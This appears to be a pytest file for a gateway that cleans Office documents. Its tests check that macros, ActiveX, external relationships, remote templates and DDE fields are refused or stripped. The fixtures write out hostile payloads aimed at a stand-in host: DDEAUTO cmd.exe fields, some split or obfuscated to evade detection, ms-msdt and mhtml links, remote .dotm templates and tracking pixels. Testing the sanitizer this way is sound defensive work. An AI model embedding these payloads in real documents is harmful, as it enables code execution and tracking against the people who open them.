"""Office files that run, start or fetch something: refused, or left with nothing to ask; what they say stays."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from gateway.files.cleaning import office_check
from gateway.files.cleaning.report import Unclean
from gateway.files.kinds import DOCX, PPTX, XLSX
from tests.gateway.files.cleaning import papers
from tests.gateway.files.cleaning.copies import cleaned
from tests.gateway.files.cleaning.papers import PATH
from tests.gateway.files.cleaning.test_acting import with_parts

HOST = "evil.example"


def related(kind: str, target: str) -> bytes:
    """A document of which something lies outside."""
    told = f'<Relationship Id="rId90" Type="{PATH}/{kind}" Target="{target}" TargetMode="External"/>'
    end = "</Relationships>"
    return papers.rewritten(
        papers.docx_file(),
        {"word/_rels/document.xml.rels": lambda xml: xml.replace(end.encode(), (told + end).encode())},
    )


def field(*pieces: str, inner: str = "") -> str:
    """A field of Word, its instruction cut into pieces, with another one between them."""
    runs = inner.join(f'<w:r><w:instrText xml:space="preserve">{each}</w:instrText></w:r>' for each in pieces)
    begin, middle, end = (f'<w:r><w:fldChar w:fldCharType="{k}"/></w:r>' for k in ("begin", "separate", "end"))
    return f"{begin}{runs}{middle}<w:r><w:t>as it was</w:t></w:r>{end}"


@pytest.mark.parametrize("name", [
    "word/vbaProject.bin", "word/vbaData.xml", "word/activeX/activeX1.xml", "word/activeX/activeX1.bin",
])  # fmt: skip
def test_a_document_with_a_program_in_it_is_refused_by_the_parts_name(tmp_path: Path, name: str) -> None:
    with pytest.raises(Unclean) as refused:
        cleaned(tmp_path, with_parts({name: b"<a/>"}), DOCX)
    assert (refused.value.rule, refused.value.params) == ("file.active", {"part": name.rpartition("/")[2]})


def test_what_extends_the_program_that_opens_a_document_is_gone(tmp_path: Path) -> None:
    extensions = {"customUI/customUI14.xml": b"<evil/>", "word/webextensions/webextension1.xml": b"<evil/>"}
    _, got = cleaned(tmp_path, with_parts(extensions), DOCX)
    assert not extensions.keys() & papers.unpacked(got).keys()


def test_the_last_look_refuses_what_would_be_fetched(tmp_path: Path) -> None:
    parts = papers.unpacked(cleaned(tmp_path, papers.docx_file(), DOCX)[1])
    told = f'<Relationship Id="rId90" TargetMode="External" Type="{PATH}/image" Target="http://{HOST}/a.png"/>'
    name = "word/_rels/document.xml.rels"
    left = parts | {name: parts[name].replace(b"</Relationships>", told.encode() + b"</Relationships>")}
    with zipfile.ZipFile(tmp_path / "left.docx", "w") as package:
        for each, content in left.items():
            package.writestr(zipfile.ZipInfo(each, (1980, 1, 1, 0, 0, 0)), content)
    with pytest.raises(Unclean) as refused:
        office_check.check(tmp_path, DOCX, tmp_path / "left.docx")
    assert "document.xml.rels" in str(refused.value.params)


def test_a_workbook_with_macros_of_the_old_kind_is_refused(tmp_path: Path) -> None:
    with pytest.raises(Unclean) as refused:
        cleaned(tmp_path, papers.rewritten(papers.workbook(), {"xl/macrosheets/sheet1.xml": b"<xm:macrosheet/>"}), XLSX)
    assert refused.value.rule == "file.active"


def test_a_docm_under_another_name_is_refused_by_what_it_says_to_be(tmp_path: Path) -> None:
    def as_macros(xml: bytes) -> bytes:
        plain = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        return xml.replace(plain, b"application/vnd.ms-word.document.macroEnabled.main+xml")

    with pytest.raises(Unclean) as refused:
        cleaned(tmp_path, papers.rewritten(papers.docx_file(), {"[Content_Types].xml": as_macros}), DOCX)
    assert refused.value.rule == "file.active"


def test_a_program_in_a_workbook_in_a_document_is_refused(tmp_path: Path) -> None:
    inner = papers.rewritten(papers.workbook(), {"xl/vbaProject.bin": bytes(64)})
    with pytest.raises(Unclean) as refused:
        cleaned(tmp_path, with_parts({"word/embeddings/inner.xlsx": inner}), DOCX)
    assert refused.value.rule == "file.active"


@pytest.mark.parametrize(("kind", "target"), [
    ("oleObject", f"mhtml:http://{HOST}/x.html!x-usc:http://{HOST}/x.html"),
    ("oleObject", f"http://{HOST}/x.html!"),
    ("image", f"https://{HOST}/pixel.png?who=1"),
    ("image", f"//{HOST}/share/pixel.png"),
    ("frame", f"http://{HOST}/frame.html"),
    ("subDocument", f"https://{HOST}/more.docx"),
    ("externalLinkPath", f"http://{HOST}/book.xlsx"),
    ("attachedTemplate", f"http://{HOST}/t.dotm"),
    ("hyperlink", f"ms-msdt:/id PCWDiagnostic /param {HOST}"),
    ("hyperlink", f"javascript:open('{HOST}')"),
])  # fmt: skip
def test_nothing_is_fetched_from_elsewhere(tmp_path: Path, kind: str, target: str) -> None:
    _, got = cleaned(tmp_path, related(kind, target), DOCX)
    assert HOST.encode() not in papers.everything(got)


@pytest.mark.parametrize("target", ["https://example.com/a?b=1#c", "mailto:a@example.com", "别的稿件.docx"])
def test_a_link_that_is_clicked_leads_where_it_led(tmp_path: Path, target: str) -> None:
    _, got = cleaned(tmp_path, related("hyperlink", target), DOCX)
    assert target in papers.unpacked(got)["word/_rels/document.xml.rels"].decode()


@pytest.mark.parametrize("body", [
    field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k evil.example" '),
    field(" DDE", "AUTO cmd ", '"/c evil.example" '),
    field(" DD", 'E cmd "/c evil.example" ', inner=field(" PAGE ")),
    field(" ", ' "/c evil.example" ', inner=field(" QUOTE 68 68 69 65 85 84 79 ")) + field(" dde evil.example "),
    '<w:fldSimple w:instr=" DDEAUTO cmd &quot;evil.example&quot; "><w:r><w:t>as it was</w:t></w:r></w:fldSimple>',
    field(' INCLUDEPICTURE "https://evil.example/a.png" \\d '),
    field(' HYPERLINK "ms-msdt:/id PCWDiagnostic https://evil.example" '),
    field(' INCLUDETEXT "\\\\\\\\evil.example\\\\share\\\\a.docx" '),
])  # fmt: skip
def test_no_field_starts_or_fetches_anything_and_it_shows_what_it_showed(tmp_path: Path, body: str) -> None:
    _, got = cleaned(tmp_path, with_parts({}, f"<w:p>{body}</w:p>"), DOCX)
    document = papers.unpacked(got)["word/document.xml"]
    left = [
        told for told in (b"DDE", b"AUTO cmd", b"E cmd", b"68 68 69", b"https://evil", b"share") if told in document
    ]
    assert left == [] and b"as it was" in document


def test_an_instruction_that_shows_something_stays(tmp_path: Path) -> None:
    body = "<w:p>" + field(' HYPERLINK "https://example.com/" ') + field(" PAGE ") + "</w:p>"
    document = papers.unpacked(cleaned(tmp_path, with_parts({}, body), DOCX)[1])["word/document.xml"]
    assert b'HYPERLINK "https://example.com/"' in document and b" PAGE " in document


def test_a_workbook_asks_no_program_by_dde(tmp_path: Path) -> None:
    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<ddeLink ddeService="cmd" ddeTopic="/c evil.example"/></externalLink>'
    )
    _, got = cleaned(tmp_path, papers.rewritten(papers.workbook(), {"xl/externalLinks/externalLink1.xml": link}), XLSX)
    part = papers.unpacked(got)["xl/externalLinks/externalLink1.xml"]
    assert HOST.encode() not in part and b'"cmd"' not in part and b"ddeLink" in part


def test_a_slide_starts_no_program(tmp_path: Path) -> None:
    slide = (
        b'<p:sld xmlns:p="http://p" xmlns:a="http://a"><a:hlinkClick action="ppaction://program"/>'
        b'<a:hlinkClick action="ppaction://hlinksldjump"/></p:sld>'
    )
    _, got = cleaned(tmp_path, papers.rewritten(papers.slides(), {"ppt/slides/slide1.xml": slide}), PPTX)
    part = papers.unpacked(got)["ppt/slides/slide1.xml"]
    assert b"program" not in part and b"hlinksldjump" in part


def test_a_drawing_fetches_no_picture(tmp_path: Path) -> None:
    shape = f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><br><v:imagedata src="http://{HOST}/a.png"/></xml>'.encode()
    inline = f'<w:p><w:r><w:pict><v:imagedata xmlns:v="urn:v" src="https://{HOST}/b.png"/></w:pict></w:r></w:p>'
    _, got = cleaned(tmp_path, with_parts({"word/drawings/vmlDrawing1.vml": shape}, inline), DOCX)
    assert HOST.encode() not in papers.everything(got)
